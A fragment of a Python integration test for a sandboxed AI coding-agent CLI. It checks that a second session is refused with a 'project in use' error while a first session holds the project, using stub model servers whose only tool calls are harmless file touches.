    model_server.reply("done")
    first = subprocess.Popen(
        [str(SANDBOX_AGENT), "ask", "--root", str(root), *model_args(model_server, "ollama"),
         "--yes", "--session", "first-one", "wait"], env=cli_env(), text=True,
        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + RUN_TIMEOUT
        while not (root / "started").exists() and first.poll() is None:
            assert time.monotonic() < deadline, "the first session's command never ran"
            time.sleep(0.1)
        with ModelServer() as other:
            other.reply(tool_calls=[Call("run_shell_command", {"command": "touch second"})])
            other.reply("done")
            done = ask(root, other, "ollama", "--yes", query="again")
        assert_user_error(done, 10, f"the project {os.path.realpath(root)} is in use by bind "
                          "session first-one in another process")
        assert "--workspace copy" in done.stderr and not (root / "second").exists()
    finally:
        (root / "release").touch()
        out, err = first.communicate(timeout=RUN_TIMEOUT)
    assert first.returncode == 0, f"{out}\n{err}"
    assert "released" in model_server.chat_requests[-1].body["messages"][-1]["content"]
